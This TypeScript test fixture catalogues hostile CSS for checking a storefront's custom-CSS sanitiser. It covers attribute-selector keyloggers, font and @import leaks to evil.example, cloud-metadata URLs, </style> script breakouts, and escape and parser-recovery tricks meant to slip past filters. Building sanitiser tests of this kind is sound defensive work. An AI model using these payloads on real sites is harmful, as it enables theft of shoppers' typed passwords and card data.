/**
 * Custom CSS a hostile merchant might save, each piece trying to read what a shopper types
 * (attribute selectors, fonts with a unicode-range, typed-text states), to load from a host
 * of its choosing, to run code, or to end the <style> element; spelled the ways filters
 * miss (escapes, comments, case, nesting, parser recovery). Every URL it tries to reach
 * is on evil.example or a private address; the store's own image host is cdn.shop.example.
 */
export interface HostileCss {
  name: string
  css: string
  /** False when the piece breaks the sheet for the rules after it too (the browser agrees). */
  keepsOtherRules?: boolean
}

export const STORE_IMAGE_HOST = 'cdn.shop.example'

/** Each piece is sanitised after this ordinary rule, which must survive it. */
export const ORDINARY_RULE = '.still-styled{color:#123456}'

const EVIL = 'https://evil.example'

/** The issue's own findings and the classic keylogger shapes. */
const FIELD_READERS: HostileCss[] = [
  { name: "the issue's :not() with a quoted semicolon", css: `input[value^="a"]:not([x=";"]){background:url(${EVIL}/a)}` },
  { name: 'a comment inside the attribute selector', css: `[/\\**/value^="a"]{background:url(${EVIL}/b)}` },
  { name: 'a namespace wildcard', css: `[*|value^="b"]{background:url(${EVIL}/b)}` },
  { name: 'an empty namespace', css: `[|value$=c]{background:url(${EVIL}/c)}` },
  { name: 'a password field by type', css: `form input[type=password][value$="c"]{background:url(${EVIL}/c)}` },
  { name: 'a field by name', css: `input[name=email]{background:url(${EVIL}/n)}` },
  { name: 'any attribute of a textarea', css: `textarea[data-x*=a]{background:url(${EVIL}/t)}` },
  { name: 'a select option', css: `option[selected]{background:url(${EVIL}/o)}` },
  { name: 'value on any element', css: `.field [value="4242"]{background:url(${EVIL}/v)}` },
  { name: 'an attribute that carries a widget value', css: `[aria-valuetext^=a]{background:url(${EVIL}/av)}` },
  { name: 'data-value', css: `[data-value^=a]{background:url(${EVIL}/dv)}` },
  { name: 'a placeholder test', css: `[placeholder]{background:url(${EVIL}/p)}` },
  { name: 'case-insensitive flag', css: `input[value^="a" i]{background:url(${EVIL}/i)}` },
  { name: 'upper case', css: `INPUT[VALUE^=a]{BACKGROUND:URL(${EVIL}/U)}` },
  { name: 'mixed case', css: `Input[Value^=a]{Background:Url(${EVIL}/m)}` },
  { name: 'a form field inside :is()', css: `:is(textarea,input)[aria-label^=a]{background:url(${EVIL}/is)}` },
  { name: 'a form field inside :where()', css: `:where(input)[title^=a]{background:url(${EVIL}/w)}` },
  { name: 'an attribute inside :not()', css: `input:not([value=""]){background:url(${EVIL}/not)}` },
  { name: 'an attribute inside :nth-child(of)', css: `li:nth-child(1 of input[value^=a]){background:url(${EVIL}/nth)}` },
  { name: ':has() reaching a field', css: `body:has(input[value^=b]) .x{background:url(${EVIL}/h)}` },
  { name: ':has() reaching a focused field', css: `body:has(input:focus) .x{background:url(${EVIL}/hf)}` },
  { name: ':has() with a relative selector', css: `label:has(+ input) .x{background:url(${EVIL}/hr)}` },
  { name: ':has() nested in :is()', css: `:is(main:has(form textarea)) .x{background:url(${EVIL}/hi)}` },
  {
    name: 'a typed-text state (even with the store image host)',
    css: `input:placeholder-shown + label{background:url(https://${STORE_IMAGE_HOST}/e.png)}`,
  },
  { name: 'validity as the shopper types', css: `input:invalid ~ .x{background:url(${EVIL}/inv)}` },
  { name: 'autofill', css: `input:-webkit-autofill{background:url(${EVIL}/af)}` },
  { name: 'a typed-text state inside :has()', css: `form:has(:valid) .x{background:url(${EVIL}/hv)}` },
]

/** Rules inside rules, where `&` stands for the parent. */
const NESTED: HostileCss[] = [
  { name: 'nested & on a field', css: `input{&[value^="a"]{background:url(${EVIL}/n1)}}` },
  { name: 'nested & on a field, any attribute', css: `input{&[data-x^=a]{background:url(${EVIL}/n2)}}` },
  { name: 'two levels deep', css: `form{input{&[id^=a]{background:url(${EVIL}/n3)}}}` },
  { name: '& after the attribute', css: `.a{[value^=a] &{background:url(${EVIL}/n4)}}` },
  { name: 'a nested rule without &', css: `.a{ [value^=a]{background:url(${EVIL}/n5)} }` },
  { name: 'a parent that reads a field', css: `body:has(input[value^=b]){ & .x{background:url(${EVIL}/n6)} }` },
  { name: '@media around a field reader', css: `@media (min-width:1px){ [VALUE$=c]{background:url(${EVIL}/n7)} }` },
  { name: '@media inside a field rule', css: `input{ @media (min-width:1px){ &[title^=d]{background:url(${EVIL}/n8)} } }` },
  { name: 'a nested :is() of a field', css: `.a{ :is(input)[data-x^=a]{background:url(${EVIL}/n9)} }` },
  { name: 'a nested rule read as a declaration', css: `.a{ input:not(.b)[id^=a]{background:url(${EVIL}/n10)} }` },
  {
    name: '@supports wrapping a field reader',
    css: `@supports (display:grid){ @media all { input[value]{background:url(${EVIL}/n11)} } }`,
  },
  { name: 'a foreign url nested', css: `.a{ .b{ .c{background:url(${EVIL}/n12)} } }` },
]

/** At-rules that load or define fonts, stylesheets, or code. */
const AT_RULES: HostileCss[] = [
  {
    name: '@font-face with a unicode-range',
    css: `@font-face{font-family:leak;src:url(${EVIL}/a.woff);unicode-range:U+0061} p{font-family:leak}`,
  },
  { name: '@font-face with a local() source', css: '@font-face{font-family:leak;src:local(Arial);unicode-range:U+0062}' },
  { name: '@FONT-FACE upper case', css: `@FONT-FACE{font-family:leak;src:url(${EVIL}/b.woff);unicode-range:U+0062}` },
  { name: '@font-face nested in @media', css: `@media all{@font-face{font-family:leak;src:url(${EVIL}/c.woff);unicode-range:U+0063}}` },
  { name: '@font-face nested in a rule', css: `p{@font-face{font-family:leak;src:url(${EVIL}/d.woff)}}` },
  { name: '@import url()', css: `@import url(${EVIL}/steal.css);` },
  { name: '@import a string', css: `@import "${EVIL}/steal2.css";` },
  { name: '@import with a layer and media', css: `@import url(${EVIL}/l.css) layer(x) supports(display:grid) screen;` },
  { name: '@IMPORT upper case', css: `@IMPORT "${EVIL}/upper.css";` },
  { name: '@import after rules (invalid there; still dropped)', css: `a{color:red} @import "${EVIL}/late.css";` },
  { name: '@import nested in @media', css: `@media all{@import "${EVIL}/nested.css";}` },
  { name: '@import split by a comment', css: `@im/**/port "${EVIL}/comment.css";` },
  { name: '@charset', css: '@charset "utf-7";' },
  { name: '@namespace', css: '@namespace svg url(http://www.w3.org/2000/svg);' },
  { name: '@property with a URL initial value', css: `@property --x{syntax:"<url>";inherits:true;initial-value:url(${EVIL}/p)}` },
  { name: '@counter-style with image symbols', css: `@counter-style leak{system:cyclic;symbols:url(${EVIL}/c.png);suffix:" "}` },
  { name: '@-moz-document', css: `@-moz-document url-prefix(){input[value^=a]{background:url(${EVIL}/moz)}}` },
  { name: '@scope around a field', css: `@scope (input[value^=a]){:scope{background:url(${EVIL}/scope)}}` },
  { name: '@font-feature-values', css: '@font-feature-values Leak{@swash{fancy:1}}' },
  { name: '@document', css: `@document url(${EVIL}/){a{color:red}}` },
]

/** Functions and properties that load by a string or run code. */
const LOADERS: HostileCss[] = [
  { name: 'a foreign background image', css: `.d{background:url(${EVIL}/beacon.png)}` },
  { name: 'image-set() of a string', css: '.e{background-image:image-set("https://192.168.1.1/x.png" 1x)}' },
  { name: '-webkit-image-set() of a string', css: `.e2{background-image:-webkit-image-set("${EVIL}/y.png" 1x)}` },
  {
    name: 'image-set() of allowed url()s (still a string-URL function)',
    css: `.e3{background:image-set(url(https://${STORE_IMAGE_HOST}/a.png) 1x,"${EVIL}/b.png" 2x)}`,
  },
  { name: 'image() of a string', css: `.e4{background:image("${EVIL}/i.png")}` },
  { name: 'src()', css: `.f{background:src("${EVIL}/z")}` },
  { name: 'cross-fade()', css: `.f2{background:cross-fade(url(${EVIL}/a.png) 50%,"${EVIL}/b.png")}` },
  { name: 'element()', css: '.f3{background:element(#card-number)}' },
  { name: '-moz-element()', css: '.f4{background:-moz-element(#card-number)}' },
  { name: 'paint()', css: '.f5{background:paint(leak)}' },
  { name: 'expression()', css: '.c{width:expression(alert(1))}' },
  { name: 'behavior', css: '.g{behavior:url(x.htc)}' },
  { name: '-ms-behavior with a star hack', css: '.g2{*-ms-behavior:url(/x.htc)}' },
  { name: '-moz-binding', css: `.g3{-moz-binding:url(${EVIL}/x.xml#x)}` },
  { name: 'javascript: in url()', css: '.a{background:url(javascript:alert(1))}' },
  { name: 'JaVaScRiPt: in a quoted url()', css: ".a2{background:url('JaVaScRiPt:alert(1)')}" },
  { name: 'attr() outside content', css: '.w{width:attr(data-w px)}' },
  { name: 'attr() of a URL type', css: '.w2{background-image:attr(data-src type(<url>))}' },
  { name: 'a custom property holding a foreign url()', css: `:root{--leak:url(${EVIL}/v)} .x{background:var(--leak)}` },
  { name: 'a custom property holding image-set()', css: `:root{--leak:image-set("${EVIL}/s.png" 1x)}` },
  { name: 'url() split across custom properties', css: `.x{--u:u;--rl:rl(${EVIL}/x);background:var(--u)var(--rl)}` },
  { name: 'a foreign url() in var() fallback', css: `.x{background:var(--none,url(${EVIL}/fb))}` },
  { name: 'a foreign url() in @supports', css: `@supports (background:url(${EVIL}/s)){.x{color:red}}` },
  { name: 'a foreign cursor', css: `.x{cursor:url(${EVIL}/c.cur),auto}` },
  { name: 'a foreign list marker', css: `li{list-style:url(${EVIL}/m.png)}` },
  { name: 'a url() split by a comment', css: `.x{background:u/**/rl(${EVIL}/x)}` },
]

/** url() arguments that look like the store's host or a path but are not. */
const URL_TRICKS: HostileCss[] = [
  { name: 'protocol-relative', css: '.u1{background:url(//evil.example/x)}' },
  { name: 'a backslash as a slash', css: '.u2{background:url(/\\\\evil.example/x)}' },
  { name: 'two backslashes', css: '.u3{background:url("\\\\\\\\evil.example/x")}' },
  { name: 'a tab the URL parser drops', css: '.u4{background:url("/\\9/evil.example/x")}' },
  { name: 'plain http', css: `.u5{background:url(http://${STORE_IMAGE_HOST}/x.png)}` },
  { name: 'credentials before the store host', css: `.u6{background:url(https://user:pass@${STORE_IMAGE_HOST}/x.png)}` },
  { name: 'the store host as a subdomain of evil', css: `.u7{background:url(https://${STORE_IMAGE_HOST}.evil.example/x.png)}` },
  { name: 'the store host in the fragment', css: `.u8{background:url(${EVIL}/#${STORE_IMAGE_HOST})}` },
  { name: 'a backslash before @', css: `.u9{background:url("${EVIL}\\\\@${STORE_IMAGE_HOST}/x")}` },
  { name: 'a data: URL', css: '.u10{background:url("data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22/>")}' },
  { name: 'cloud metadata', css: '.u11{background:url(https://169.254.169.254/latest/meta-data/)}' },
  { name: 'a private address in another spelling', css: '.u12{background:url(https://0x7f000001/x)}' },
  { name: 'an IPv6 loopback', css: '.u13{background:url("https://[::1]/x")}' },
  { name: 'an unterminated quoted url', css: '.u14{background:url("http://10.0.0.1/x)y")}' },
  { name: 'a quote inside an unquoted url', css: `.u15{background:url(${EVIL}/b.png"x)}` },
  { name: 'a relative path on no host', css: '.u16{background:url(evil.example/x.png)}' },
]

/** Things that end the <style> element or hide behind the HTML parser. */
const STYLE_BREAKERS: HostileCss[] = [
  { name: '</style> outside any string', css: 'a{color:red}</style><script>alert(1)</script><style>' },
  { name: '</style> in a content string', css: 'a{content:"</style><script>alert(1)</script>"}' },
  { name: '</STYLE> in a single-quoted font name', css: "a{font-family:'</STYLE><img src=x onerror=alert(1)>'}" },
  { name: '</style> in an attribute selector string', css: '[title="</style><script>alert(1)</script>"]{color:red}' },
  { name: '</style> in a custom property string', css: 'a{--x:"</style><script>alert(1)</script>"}' },
  { name: '</style> in a keyframes name', css: '@keyframes "</style><script>alert(1)</script>"{from{opacity:0}}' },
  { name: '</style> in an allowed url', css: `a{background:url("https://${STORE_IMAGE_HOST}/a</style><script>.png")}` },
  { name: '</style> in a same-site path', css: 'a{background:url("/a</style><script>alert(1)</script>.png")}' },
  { name: 'HTML comment markers', css: '<!-- input[value^=a]{background:url(https://evil.example/x)} -->' },
]

/** Recovery from broken CSS: nothing dropped may slip through the parser's fallback. */
const MALFORMED: HostileCss[] = [
  { name: 'an unclosed block at the end', css: `input[value^=a]{background:url(${EVIL}/m)` },
  { name: 'extra closing braces', css: `a{color:red}}} input[value^=a]{background:url(${EVIL}/m2)}` },
  { name: 'an unterminated string', css: `a{content:"open\n} input[value^=a]{background:url(${EVIL}/m3)}` },
  { name: 'an unclosed url()', css: `a{background:url(${EVIL}/m4}` },
  { name: 'an unclosed attribute selector', css: `[value^=a{background:url(${EVIL}/m5)}` },
  { name: 'a stray backslash at the end', css: `a{background:url(${EVIL}/m6)}\\` },
  { name: 'NUL characters', css: `inp\u0000ut[value^=a]{background:url(${EVIL}/m7)} a{background:u\u0000rl(${EVIL}/m8)}` },
  { name: 'a declaration with a block', css: `a{background:url(${EVIL}/m9){x}}` },
  { name: 'a custom property with a block', css: `a{--x:{background:url(${EVIL}/m10)}}` },
  { name: 'semicolons and garbage between rules', css: `;;; @; {} } input[value]{background:url(${EVIL}/m11)}` },
  { name: 'an at-rule without a block', css: `@media screen; input[value]{background:url(${EVIL}/m12)}` },
  {
    name: 'nesting deeper than the parser can go',
    css: `${'&{'.repeat(4000)}input[value]{background:url(${EVIL}/m13)}`,
    keepsOtherRules: false,
  },
  { name: 'many nested rules', css: `${'.a{'.repeat(40)}[value]{background:url(${EVIL}/m14)}${'}'.repeat(40)}` },
]

/**
 * Every forbidden name with CSS escapes: its first letter as hex, its last, every letter as
 * six-digit hex, an upper-case letter as hex, a hex escape in upper-case digits, and a
 * backslash before a letter that is not a hex digit (which stands for the letter itself).
 */
function escapedSpellings(name: string): string[] {
  const hex = (ch: string, digits = 0) => `\\${ch.codePointAt(0)?.toString(16).padStart(digits, '0')} `
  const letters = [...name]
  const first = letters.findIndex((ch) => /[a-z]/i.test(ch))
  const last = letters.length - 1
  const hexWithLetters = letters.findIndex((ch) => /[a-f]/.test(hex(ch)))
  const plain = letters.findLastIndex((ch) => /[g-z]/i.test(ch))
  const spell = (at: number, write: (ch: string) => string) => letters.map((ch, i) => (i === at ? write(ch) : ch)).join('')
  return [
    spell(first, (ch) => hex(ch)),
    spell(last, (ch) => hex(ch)),
    letters.map((ch) => hex(ch, 6)).join(''),
    spell(first, (ch) => hex(ch.toUpperCase())),
    ...(hexWithLetters === -1 ? [] : [spell(hexWithLetters, (ch) => hex(ch).toUpperCase())]),
    spell(plain, (ch) => `\\${ch}`),
  ]
}

const ESCAPE_TEMPLATES: [string, (spelled: string) => string][] = [
  ['import', (s) => `@${s} "${EVIL}/e.css";`],
  ['font-face', (s) => `@${s}{font-family:leak;src:url(${EVIL}/e.woff);unicode-range:U+0061}`],
  ['charset', (s) => `@${s} "utf-7";`],
  ['namespace', (s) => `@${s} x url(${EVIL}/ns);`],
  ['value', (s) => `[${s}^=a]{background:url(${EVIL}/ev)}`],
  ['input', (s) => `${s}[data-x^=a]{background:url(${EVIL}/ei)}`],
  ['textarea', (s) => `${s}[id^=a]{background:url(${EVIL}/et)}`],
  ['url', (s) => `a{background:${s}(${EVIL}/eu)}`],
  ['image-set', (s) => `a{background:${s}("${EVIL}/es.png" 1x)}`],
  ['src', (s) => `a{background:${s}("${EVIL}/esrc")}`],
  ['element', (s) => `a{background:${s}(#card)}`],
  ['paint', (s) => `a{background:${s}(leak)}`],
  ['expression', (s) => `a{width:${s}(alert(1))}`],
  ['attr', (s) => `a{width:${s}(data-w px)}`],
  ['behavior', (s) => `a{${s}:url(${EVIL}/b.htc)}`],
  ['-moz-binding', (s) => `a{${s}:url(${EVIL}/x.xml#x)}`],
  ['javascript', (s) => `a{background:url(${s}:alert(1))}`],
  ['has', (s) => `body:${s}(input[value^=a]) .x{background:url(${EVIL}/eh)}`],
  ['placeholder-shown', (s) => `input:${s} ~ .x{background:url(${EVIL}/ep)}`],
]

const ESCAPES: HostileCss[] = ESCAPE_TEMPLATES.flatMap(([name, template]) =>
  escapedSpellings(name).map((spelled) => ({ name: `escaped ${name}: ${spelled}`, css: template(spelled) })),
)

export const HOSTILE_CSS: readonly HostileCss[] = [
  ...FIELD_READERS,
  ...NESTED,
  ...AT_RULES,
  ...LOADERS,
  ...URL_TRICKS,
  ...STYLE_BREAKERS,
  ...MALFORMED,
  ...ESCAPES,
]
